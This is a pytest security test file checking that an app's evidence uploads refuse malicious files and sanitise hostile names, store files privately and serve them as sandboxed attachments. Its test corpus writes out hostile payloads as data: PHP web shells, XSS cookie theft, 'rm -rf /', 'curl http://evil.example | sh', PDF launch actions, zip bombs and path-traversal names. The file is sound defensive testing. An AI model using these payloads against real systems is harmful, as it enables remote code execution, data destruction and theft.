"""Evidence uploads (S7, ASVS 12.1.1, 12.2.1, 12.3.1–12.3.5, 12.4.1, 12.5.1, 12.5.2): a
corpus of malicious files, refused through the web form and through the API; hostile
names accepted only as sanitised display names; storage under random names outside the
static folder; downloads as sandboxed attachments with nosniff."""

from __future__ import annotations

import io
import os
import re
import stat
import struct
import zipfile
import zlib

import pytest
from sqlalchemy import func, select

from tests.security.conftest import PDF
from workflow.models import Evidence, Issue, User
from workflow.org import tokens

PNG_IEND = struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))


def png() -> bytes:
    """A real 1×1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))  # fmt: skip


def office(members: dict[str, bytes], big: dict[str, int] | None = None) -> bytes:
    """A zip (docx-like) with ``members``, plus members of ``big`` zero bytes each."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
        for name, size in (big or {}).items():
            with z.open(name, "w", force_zip64=True) as fh:
                block = b"\0" * (1024 * 1024)
                for _ in range(size // len(block)):
                    fh.write(block)
    return buf.getvalue()


DOCX = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
SCRIPT = b"<script>alert(document.cookie)</script>"


def pdf_with(body: bytes) -> bytes:
    return b"%PDF-1.4\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


# (what it is, file name, bytes): none of them may be stored
CORPUS = [
    ("javascript named .pdf", "x.pdf", b"alert(document.cookie)//"),
    ("HTML named .pdf", "evil.pdf", b"<html><body>" + SCRIPT + b"</body></html>"),
    ("HTML with a BOM named .pdf", "bom.pdf", b"\xef\xbb\xbf<!DOCTYPE html>" + SCRIPT),
    ("HTML before a PDF header", "late.pdf", b"<html>" + SCRIPT + b"</html>\n" + PDF),
    ("PDF+HTML polyglot", "poly.pdf", pdf_with(b"<html>" + SCRIPT + b"</html>")),
    ("PDF with /JavaScript", "js.pdf", pdf_with(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")),
    ("PDF with escaped /J#61vaScript", "js2.pdf", pdf_with(b"1 0 obj<</AA<</O<</S/J#61vaScript/J#53(x)>>>>>>endobj")),
    ("PDF with /Launch", "launch.pdf", pdf_with(b"1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj")),
    ("PDF with an embedded file", "embed.pdf", pdf_with(b"1 0 obj<</Type/EmbeddedFile/Length 3>>endobj")),
    ("PDF header on a script, no %%EOF", "trunc.pdf", b"%PDF-1.7\nvar x = eval(atob('YWxlcnQoMSk='));"),
    ("SVG with script named .png", "x.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"),
    ("SVG named .svg", "x.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("PNG magic then script", "magic.png", b"\x89PNG\r\n\x1a\n" + SCRIPT),
    ("PNG with HTML after IEND", "tail.png", png() + b"<html>" + SCRIPT),
    ("PNG/ZIP polyglot", "pngzip.png", png() + office(DOCX)),
    ("PNG with an SVG tag up front", "svg.png", b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>"),
    ("JPEG with PHP inside", "shell.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<?php system($_GET['c']); ?>\xff\xd9"),
    ("GIF/JavaScript polyglot", "gif.png", b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00*/=alert(1)//;"),
    ("Windows EXE named .png", "photo.png", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00"),
    ("ELF binary named .pdf", "report.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 60),
    ("PHP file", "x.php", b"<?php echo shell_exec($_GET['c']); ?>"),
    ("PHP named .jpg", "x.jpg", b"<?php phpinfo(); ?>"),
    ("shell script", "run.sh", b"#!/bin/sh\nrm -rf / --no-preserve-root\n"),
    ("shell script named .pdf", "run.pdf", b"#!/bin/bash\ncurl http://evil.example | sh\n"),
    ("EICAR test string named .pdf", "eicar.pdf", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
    ("XHTML with script", "x.pdf", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"),
    ("empty file", "empty.pdf", b""),
    ("zip bomb renamed .docx", "bomb.docx", office(DOCX, {"word/media/zeros.bin": 101 * 1024 * 1024})),
    ("zip with absurd ratio", "ratio.docx", office(DOCX, {"word/media/zeros.bin": 12 * 1024 * 1024})),
    ("zip without [Content_Types].xml", "plain.docx", office({"word/document.xml": b"<w:document/>"})),
    ("zip with a traversal member", "slip.docx", office({**DOCX, "../../evil.sh": b"#!/bin/sh"})),
    ("zip with an absolute member", "abs.xlsx", office({"[Content_Types].xml": b"<Types/>", "xl/x.xml": b"x", "/etc/cron.d/x": b"x"})),
    ("macro document renamed .docx", "macro.docx", office({"[Content_Types].xml": b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>", "word/document.xml": b"x", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    ("zip of an EXE renamed .xlsx", "data.xlsx", office({"setup.exe": b"MZ\x90\x00"})),
    ("not a zip at all after PK", "broken.docx", b"PK\x03\x04" + b"\x00" * 40),
    ("HTML named .docx", "x.docx", b"<html>" + SCRIPT + b"</html>"),
]  # fmt: skip

# hostile names on a good PDF: accepted, shown sanitised, never used as a path
NAMES = [
    ("../../x.pdf", "x.pdf"),
    ("..\\..\\x.pdf", "x.pdf"),
    ("/etc/passwd", "passwd.pdf"),
    # the multipart parser may read backslashes as quoted-string escapes: either is clean
    ("C:\\Windows\\System32\\x.pdf", ("x.pdf", "C_WindowsSystem32x.pdf")),
    ("a\x01b\x1fc\x7f.pdf", "abc.pdf"),
    ("a\tContent-Type: text\x00html.pdf", "aContent-Type_ texthtml.pdf"),
    ("invoice\u202efdp.exe", "invoicefdp.exe.pdf"),
    ("zero\u200bwidth\ufeff.pdf", "zerowidth.pdf"),
    ("x" * 5000 + ".pdf", "x" * 196 + ".pdf"),
    ("report.exe", "report.exe.pdf"),
    ("'><img src=x onerror=alert(1)>.pdf", "'__img src=x onerror=alert(1)_.pdf"),
    ("....pdf", "pdf.pdf"),
    ("会议纪要（第3次）.pdf", "会议纪要（第3次）.pdf"),
]


class Doors:
    """Upload through the web form or the API, as clerk."""

    def __init__(self, app, client, world, issue_id) -> None:
        self.app, self.client, self.world, self.issue_id = app, client, world, issue_id
        client.post("/login", data={"username": "clerk", "password": "correct-horse-9"})
        with world.db.writing() as s:
            _, self.token = tokens.create_token(
                s, s.get(User, world.users["clerk"]), "t", world.clock()
            )

    def upload(self, door: str, name: str, body: bytes):
        data = {"file": (io.BytesIO(body), name)}
        if door == "web":
            return self.client.post(f"/issues/{self.issue_id}/evidence", data=data,
                                    content_type="multipart/form-data")  # fmt: skip
        return self.app.test_client().post(
            f"/api/v1/issues/{self.issue_id}/evidence", data=data,
            content_type="multipart/form-data", headers={"Authorization": f"Bearer {self.token}"},
        )  # fmt: skip

    def stored(self) -> list[str]:
        return sorted(os.listdir(self.app.config["UPLOAD_FOLDER"]))

    def evidence(self) -> list[Evidence]:
        with self.world.db.reading() as s:
            return list(s.scalars(select(Evidence).order_by(Evidence.id)))


@pytest.fixture
def doors(app, client, sqlite_world, issue_id):
    return Doors(app, client, sqlite_world, issue_id)


def test_corpus_is_big_enough():
    assert len(CORPUS) >= 30


@pytest.mark.parametrize("door", ["web", "api"])
def test_malicious_files_are_refused(doors, door):
    """Every file of the corpus is refused (web 422, API 415/422) and leaves no row and
    no file behind.  Fails when the content checks in ``evidence.sniff`` are loosened (the
    polyglots, the PDFs with JavaScript and the zip bombs carry accepted magic bytes)."""
    accepted = []
    for what, name, body in CORPUS:
        r = doors.upload(door, name, body)
        if r.status_code not in ((422,) if door == "web" else (415, 422)):
            accepted.append(f"{what}: {r.status_code}")
    assert not accepted, accepted
    assert doors.evidence() == [] and doors.stored() == []


@pytest.mark.parametrize("door", ["web", "api"])
def test_oversize_is_413(doors, door):
    r = doors.upload(door, "big.pdf", PDF + b"0" * (300 * 1024))
    assert r.status_code == 413
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert doors.stored() == []


def test_own_limit_holds_without_the_request_limit(doors):
    """``save_evidence`` stops at the limit itself, should MAX_CONTENT_LENGTH be lifted
    for another route one day."""
    doors.app.config["MAX_CONTENT_LENGTH"] = None
    from web.pages.issues import evidence

    with doors.app.test_request_context():
        doors.app.config["MAX_CONTENT_LENGTH"] = 1024
        with pytest.raises(Exception) as info, doors.world.db.writing() as s:
            evidence.save_evidence(s, s.get(Issue, doors.issue_id),
                                   s.get(User, doors.world.users["clerk"]),
                                   "big.pdf", io.BytesIO(PDF + b"0" * 4096), doors.world.clock())  # fmt: skip
        assert getattr(info.value, "code", None) == 413
    assert doors.stored() == []


def test_good_files_still_pass(doors):
    """The checks do not refuse real evidence: a PDF, a real PNG, a JPEG, a docx, an xlsx."""
    xlsx = office({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
    for name, body in [("a.pdf", PDF), ("b.png", png()), ("c.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 64),
                       ("d.docx", office(DOCX)), ("e.xlsx", xlsx)]:  # fmt: skip
        for door in ("web", "api"):
            r = doors.upload(door, name, body)
            assert r.status_code in (303, 201), (name, door, r.status_code)


@pytest.mark.parametrize("door", ["web", "api"])
def test_hostile_names_are_sanitised_and_never_paths(doors, door, tmp_path):
    """Path-traversal, absolute, control-character, bidi-override, long and misleading
    names: accepted on a good PDF, shown as a clean name ending in .pdf, stored under a
    random name in the upload folder.  Fails when ``display_name`` is bypassed."""
    for raw, _ in NAMES:
        r = doors.upload(door, raw, PDF)
        assert r.status_code in (303, 201), (raw, r.status_code)
    shown = [e.filename for e in doors.evidence()]
    assert len(shown) == len(NAMES)
    for name, (raw, clean) in zip(shown, NAMES, strict=True):
        assert name in (clean if isinstance(clean, tuple) else (clean,)), (raw, name)
    for name in shown:
        assert not re.search(r"[\x00-\x1f\x7f/\\\u202e\u200b]", name) and len(name) <= 200
    assert all(re.fullmatch(r"[0-9a-f]{40}", n) for n in doors.stored())
    assert len(doors.stored()) == len(NAMES)
    # a line break cannot even reach the view (the multipart parser drops the name)
    r = doors.upload(door, "a\r\nContent-Type: text/html.pdf", PDF)
    assert r.status_code == 422 or "\n" not in doors.evidence()[-1].filename
    # nothing was written where a traversal would land: in this test's folders, or beside them
    # (other tests' own files further down are theirs: only the direct neighbours count)
    near = [*tmp_path.rglob("*"), *tmp_path.parent.iterdir()]
    assert not [p for p in near if p.name in ("x.pdf", "passwd.pdf", "passwd")]


def test_storage_is_private_and_outside_static(doors, app):
    doors.upload("web", "a.pdf", PDF)
    folder = os.path.realpath(app.config["UPLOAD_FOLDER"])
    assert not folder.startswith(os.path.realpath(app.static_folder) + os.sep)
    (name,) = doors.stored()
    mode = stat.S_IMODE(os.stat(os.path.join(folder, name)).st_mode)
    assert mode == 0o600
    assert app.test_client().get(f"/static/{name}").status_code == 404


def test_downloads_are_sandboxed_attachments(doors):
    """Both download doors: attachment with the sanitised name, the stored type,
    nosniff, and a sandbox CSP (an SVG or HTML could never run even if one got in)."""
    doors.upload("web", "../../会议纪要.pdf", PDF)
    (ev,) = doors.evidence()
    web = doors.client.get(f"/evidence/{ev.id}")
    api = doors.app.test_client().get(
        f"/api/v1/issues/{doors.issue_id}/evidence/{ev.id}",
        headers={"Authorization": f"Bearer {doors.token}"},
    )
    for r in (web, api):
        assert r.status_code == 200 and r.data == PDF
        assert r.headers["Content-Disposition"].startswith("attachment;")
        assert "%E4%BC%9A%E8%AE%AE%E7%BA%AA%E8%A6%81.pdf" in r.headers["Content-Disposition"]
        assert ".." not in r.headers["Content-Disposition"]
        assert r.mimetype == "application/pdf"
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        csp = r.headers["Content-Security-Policy"]
        assert csp.startswith("sandbox") and "default-src 'none'" in csp
        assert "frame-ancestors 'none'" in csp


def test_a_count_of_nothing_written(doors):
    """After refusals the database holds no evidence rows (sanity check of the helper)."""
    doors.upload("web", "x.php", b"<?php ?>")
    with doors.world.db.reading() as s:
        assert s.scalar(select(func.count()).select_from(Evidence)) == 0
